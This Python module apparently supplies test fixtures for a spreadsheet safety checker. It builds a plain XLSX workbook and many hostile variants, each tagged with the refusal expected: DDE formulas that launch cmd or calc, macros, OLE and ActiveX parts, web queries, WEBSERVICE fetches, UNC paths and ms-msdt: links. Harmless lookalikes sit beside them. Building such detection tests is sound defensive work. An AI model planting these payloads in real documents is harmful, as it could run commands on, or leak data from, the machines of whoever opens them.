"""Workbooks that act or reach out, made by changing parts of a plain one; and plain ones of several writers."""

import io
import zipfile
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from functools import cache

import xlsxwriter
from openpyxl import Workbook
from openpyxl.comments import Comment

_DOCUMENT = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_MS = "application/vnd.openxmlformats-officedocument.spreadsheetml"
_RELATIONSHIPS = "http://schemas.openxmlformats.org/package/2006/relationships"


@cache
def plain() -> bytes:
    """A workbook with one sheet, “Counts”, one value and one formula."""
    book, stream = Workbook(), io.BytesIO()
    book.active.title = "Counts"
    book.active["A1"] = 12
    book.active["B3"] = "=SUM(A1:A2)"
    book.save(stream)
    return stream.getvalue()


@dataclass(frozen=True)
class Change:
    """What is changed in the plain workbook: parts added, types named, relationships of the sheet, words replaced."""

    parts: Mapping[str, str | bytes] = field(default_factory=dict)
    types: Mapping[str, str] = field(default_factory=dict)
    links: tuple[tuple[str, str, str], ...] = ()  # last word or all of the kind, target, mode
    formula: str = ""
    words: Mapping[str, tuple[str, str]] = field(default_factory=dict)  # by part: what is replaced by what


def changed(change: Change) -> bytes:
    """The plain workbook with the change."""
    parts = _parts(plain())
    for name, content in change.parts.items():
        parts[name] = content.encode() if isinstance(content, str) else content
    overrides = "".join(
        f'<Override PartName="/{name}" ContentType="{kind}"/>' for name, kind in change.types.items()
    )
    _replace(parts, "[Content_Types].xml", "</Types>", overrides + "</Types>")
    if change.links:
        parts["xl/worksheets/_rels/sheet1.xml.rels"] = _relationships(change.links).encode()
    if change.formula:
        _replace(parts, "xl/worksheets/sheet1.xml", "SUM(A1:A2)", change.formula)
    for name, (before, after) in change.words.items():
        _replace(parts, name, before, after)
    return packed(parts)


def packed(parts: Mapping[str, bytes]) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return stream.getvalue()


def _parts(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _replace(parts: dict[str, bytes], name: str, before: str, after: str) -> None:
    assert before.encode() in parts[name], (name, before)
    parts[name] = parts[name].replace(before.encode(), after.encode(), 1)


def _relationships(links: tuple[tuple[str, str, str], ...]) -> str:
    rows = "".join(
        f'<Relationship Id="rId{number}" Type="{kind if ":" in kind else f"{_DOCUMENT}/{kind}"}" Target="{target}"'
        + (f' TargetMode="{mode}"/>' if mode else "/>")
        for number, (kind, target, mode) in enumerate(links, start=1)
    )
    return f'<Relationships xmlns="{_RELATIONSHIPS}">{rows}</Relationships>'


def _part(name: str, content: str, kind: str = "") -> Change:
    return Change({name: content}, {name: kind} if kind else {})


def _linked(address: str) -> Change:
    """A cell, B3, with a link to the address."""
    cell = f'<hyperlinks><hyperlink xmlns:q="{_DOCUMENT}" ref="B3" q:id="rId1"/></hyperlinks><pageMargins'
    return Change(
        links=(("hyperlink", address, "External"),),
        words={"xl/worksheets/sheet1.xml": ("<pageMargins", cell)},
    )


_DDE = f'<externalLink xmlns="{_MAIN}"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
_WEB_QUERY = f'<connections xmlns="{_MAIN}"><connection id="1" type="4"><webPr url="https://x.test"/></connection></connections>'

# by a name: the code of the refusal, a word of its place, the change
HOSTILE: Mapping[str, tuple[str, str, Change]] = {
    "macros": ("macros", "harmless.bin", _part("xl/harmless.bin", "x", "application/vnd.ms-office.vbaProject")),
    "macro-relationship": ("macros", "Counts", Change(links=(("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "x.bin", ""),))),
    "macrosheet": ("macros", "sheet9", _part("xl/worksheets/sheet9.xml", "<x/>", "application/vnd.ms-excel.macrosheet+xml")),
    "external-link": ("external", "data9", _part("xl/data9.xml", "<x/>", f"{_MS}.externalLink+xml")),
    "external-book-element": ("external", "notes.xml", _part("xl/notes.xml", f'<n xmlns="{_MAIN}"><externalBook/></n>')),
    "external-book-strict": ("external", "n.xml", _part("xl/n.xml", '<n xmlns="http://purl.oclc.org/ooxml/spreadsheetml/main"><externalBook/></n>')),
    "external-mode": ("external", "Counts", Change(links=(("image", "https://x.test/p.png", "External"),))),
    "external-mode-relationship-part": ("external", "odd.xml", _part("xl/odd.xml", _relationships((("image", "https://x.test/p.png", "External"),)))),
    "internal-address": ("external", "Counts", Change(links=(("drawing", "https://x.test/d.xml", ""),))),
    "external-formula": ("external", "B3", Change(formula="[1]Sheet1!A1+1")),
    "external-path": ("external", "B3", Change(formula="'C:\\data\\[book.xlsx]Sheet1'!A1")),
    "external-name": ("external", "Rates", Change(words={"xl/workbook.xml": ("<calcPr", "<definedNames><definedName name=\"Rates\">[2]Sheet1!$A$1</definedName></definedNames><calcPr")})),
    "dde-link": ("dde", "theme9", _part("xl/theme/theme9.xml", _DDE.replace("externalLink", "theme"))),
    "dde-utf16": ("dde", "utf16", Change({"xl/utf16.xml": ('<?xml version="1.0" encoding="UTF-16"?>' + _DDE.replace("externalLink", "x")).encode("utf-16")})),
    "dde-formula": ("dde", "B3", Change(formula="cmd|'/c calc'!A0")),
    "dde-function": ("dde", "B3", Change(formula='DDE("soffice","a","b")')),
    "ddeauto": ("dde", "B3", Change(formula="DDEAUTO c:\\windows\\cmd")),
    "dde-hidden-in-brackets": ("dde", "B3", Change(formula="T[a&quot;]+cmd|'/c calc'!A0+T[b&quot;]")),
    "dde-chart": ("dde", "chart9", _part("xl/chart9.xml", '<c xmlns="http://schemas.openxmlformats.org/drawingml/2006/chart"><f>cmd|x!A</f></c>')),
    "ole-object": ("embeds", "o.xml", _part("xl/o.xml", f'<w xmlns="{_MAIN}"><oleObjects><oleObject progId="Package"/></oleObjects></w>')),
    "ole-link": ("external", "o.xml", _part("xl/o.xml", f'<w xmlns="{_MAIN}"><oleLink/></w>')),
    "ole-relationship": ("embeds", "Counts", Change(links=(("oleObject", "../x.bin", ""),))),
    "ole-bytes": ("embeds", "image9", Change({"xl/media/image9.png": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"}, {"xl/media/image9.png": "image/png"})),
    "embedded-package": ("embeds", "Counts", Change(links=(("package", "../x.xlsx", ""),))),
    "nested-zip": ("embeds", "image9", Change({"xl/media/image9.png": b"PK\x03\x04"}, {"xl/media/image9.png": "image/png"})),
    "activex": ("activex", "c.xml", _part("xl/c.xml", '<a:ocx xmlns:a="http://schemas.microsoft.com/office/2006/activeX"/>')),
    "activex-relationship": ("activex", "Counts", Change(links=(("control", "../c.xml", ""),))),
    "web-query": ("connections", "styles9", _part("xl/styles9.xml", _WEB_QUERY)),
    "connections": ("connections", "Counts", Change(links=(("connections", "../c.xml", ""),))),
    "query-table": ("connections", "t.xml", _part("xl/t.xml", f'<queryTable xmlns="{_MAIN}"/>')),
    "power-query": ("connections", "item1", _part("customXml/item1.xml", '<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">AAAA</DataMashup>')),
    "pivot-from-elsewhere": ("connections", "p.xml", _part("xl/p.xml", f'<p xmlns="{_MAIN}"><cacheSource type="external"/></p>')),
    "custom-ui": ("custom-ui", "u.xml", _part("xl/u.xml", '<customUI xmlns="http://schemas.microsoft.com/office/2009/07/customui"/>')),
    "add-in": ("custom-ui", "w.xml", _part("xl/w.xml", '<we:webextension xmlns:we="http://schemas.microsoft.com/office/webextensions/webextension/2010/11"/>')),
    "webservice": ("fetches", "B3", Change(formula='_xlfn.WEBSERVICE("https://x.test/"&amp;A1)')),
    "rtd": ("fetches", "B3", Change(formula='IF(A1,rtd ("x.y",,"z"),0)')),
    "image-function": ("fetches", "B3", Change(formula='_xlfn.IMAGE("https://x.test/p.png")')),
    "real-time-data": ("fetches", "v.xml", _part("xl/v.xml", f'<volTypes xmlns="{_MAIN}"/>')),
    "hyperlink-network": ("file-address", "B3", Change(formula='HYPERLINK("\\\\server\\share\\a.txt","open")')),
    "hyperlink-pieces": ("file-address", "B3", Change(formula='HYPERLINK("\\"&amp;"\\server\\share","open")')),
    "hyperlink-file": ("file-address", "B3", Change(formula='HYPERLINK("file:///c:/a.txt")')),
    "external-path-calc": ("external", "B3", Change(formula="'file:///c:/book.ods'#$Sheet1.A1")),
    "dde-old-function": ("dde", "Old", Change(words={"xl/workbook.xml": ("<calcPr", "<definedNames><definedName name=\"Old\">INITIATE(\"cmd\",\"a\")</definedName></definedNames><calcPr")})),
    "hyperlink-location-network": ("file-address", "B3", Change(words={"xl/worksheets/sheet1.xml": ("<pageMargins", '<hyperlinks><hyperlink ref="B3" location="\\\\server\\share\\a.xlsx"/></hyperlinks><pageMargins')})),
    "hyperlink-location-book": ("external", "B3", Change(words={"xl/worksheets/sheet1.xml": ("<pageMargins", '<hyperlinks><hyperlink ref="B3" location="\'[\\\\server\\book.xlsx]S\'!A1"/></hyperlinks><pageMargins')})),
    "hyperlink-scheme": ("link-scheme", "B3", Change(formula='HYPERLINK("ms-msdt:/id","open")')),
    "link-network": ("file-address", "B3", _linked("\\\\server\\share\\a.txt")),
    "link-file": ("file-address", "B3", _linked("file:///c:/a.txt")),
    "link-beside": ("file-address", "B3", _linked("other.xlsx")),
    "link-scheme": ("link-scheme", "B3", _linked("search-ms:query=x")),
    "picture-of-drawing": ("external", "d.vml", _part("xl/d.vml", '<xml xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata src="https://x.test/p.png"/></xml>', f"{_MS[:-15]}vmlDrawing")),
    "svg-script": ("part-acts", "p.svg", _part("xl/media/p.svg", '<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>', "image/svg+xml")),
    "entities": ("xml-document-type", "e.xml", _part("xl/e.xml", '<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>')),
    "unknown-part": ("part-unknown", "x.dat", _part("xl/x.dat", "data")),
    "torn-part": ("unreadable", "torn.xml", _part("xl/torn.xml", "<x><y></x>")),
    "elements-in-formula": ("unreadable", "sheet1.xml", Change(formula="1<f/>cmd|x!A0")),
    "no-workbook": ("no-workbook", "", Change(words={"[Content_Types].xml": ("spreadsheetml.sheet.main+xml", "spreadsheetml.other+xml")})),
    "template": ("no-workbook", "", Change(words={"[Content_Types].xml": (".sheet.main+xml", ".template.main+xml")})),
    "macro-workbook": ("macros", "workbook.xml", Change(words={"[Content_Types].xml": (f"{_MS}.sheet.main+xml", "application/vnd.ms-excel.sheet.macroEnabled.main+xml")})),
}  # fmt: skip

HARMLESS: Mapping[str, Change] = {
    "web-link": _linked("https://example.org/a?b=1#c"),
    "mail-link": _linked("mailto:anna@example.org"),
    "link-within": Change(formula='HYPERLINK("#Counts!A1","up")'),
    "link-from-cell": Change(formula='HYPERLINK("https://example.org/"&amp;A1,"Ticket: "&amp;A1)'),
    "structured": Change(formula="SUM(Table1[[#All],[2020]])/Table1[@Weeks]"),
    "bar-in-text": Change(formula='A1&amp;" | "&amp;A2'),
    "own-macro-name": Change(words={"xl/workbook.xml": ("<calcPr", "<definedNames><definedName name=\"Own\">[0]!Rates</definedName></definedNames><calcPr")}),
    "quoted-sheet": Change(formula="'It''s here'!A1"),
    "others-words": _part("customXml/item1.xml", '<connection xmlns="https://example.org/rail"><oleObject/></connection>'),
    "line-breaks": _part("xl/d.vml", '<xml xmlns:v="urn:schemas-microsoft-com:vml"><v:shape>a<br>b</v:shape></xml>', f"{_MS[:-15]}vmlDrawing"),
    "trash": _part("[trash]/0000.dat", "old"),
    "printer": Change({"xl/printerSettings/p1.bin": b"\1\2"}, {"xl/printerSettings/p1.bin": f"{_MS}.printerSettings"}),
}  # fmt: skip


def by_openpyxl() -> bytes:
    """With a comment (which makes an old drawing), a link, a chosen list and a conditional format."""
    book, stream = Workbook(), io.BytesIO()
    sheet = book.active
    sheet["A1"].hyperlink = "https://example.org/"
    sheet["A2"].comment = Comment("See the note", "Anna")
    sheet["A3"] = '=IF(A4>1,"a|b","c")'
    book.save(stream)
    return stream.getvalue()


def by_xlsxwriter() -> bytes:
    """With a chart, a table, a picture of its own, notes, links, checks and rich text."""
    stream = io.BytesIO()
    with xlsxwriter.Workbook(stream) as book:
        sheet = book.add_worksheet("Счёт")
        sheet.write_column("A1", [1, 2, 3])
        sheet.write_url("B1", "https://example.org/", string="Source")
        sheet.write_url("B2", "internal:Счёт!A1")
        sheet.write_formula("B3", "=SUM(A1:A3)")
        sheet.write_comment("C1", "Counted twice")
        sheet.data_validation("C2", {"validate": "list", "source": ["yes", "no"]})
        sheet.conditional_format("A1:A3", {"type": "data_bar"})
        sheet.add_table("E1:F4", {"columns": [{"header": "Week"}, {"header": "Number"}]})
        chart = book.add_chart({"type": "column"})
        chart.add_series({"values": "='Счёт'!$A$1:$A$3"})
        sheet.insert_chart("H2", chart)
        sheet.insert_checkbox("D1", True)
        book.define_name("Rates", "='Счёт'!$A$1")
    return stream.getvalue()


def by_appending() -> bytes:
    """As programs write that do not know the sizes before, with the sizes behind each entry."""
    stream = _Unseekable()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in _parts(plain()).items():
            archive.writestr(name, content)
    return stream.getvalue()


class _Unseekable(io.BytesIO):
    def seekable(self) -> bool:
        return False

    def seek(self, *_place: int) -> int:
        raise io.UnsupportedOperation

    def tell(self) -> int:
        raise io.UnsupportedOperation


WRITERS: tuple[Callable[[], bytes], ...] = (plain, by_openpyxl, by_xlsxwriter, by_appending)
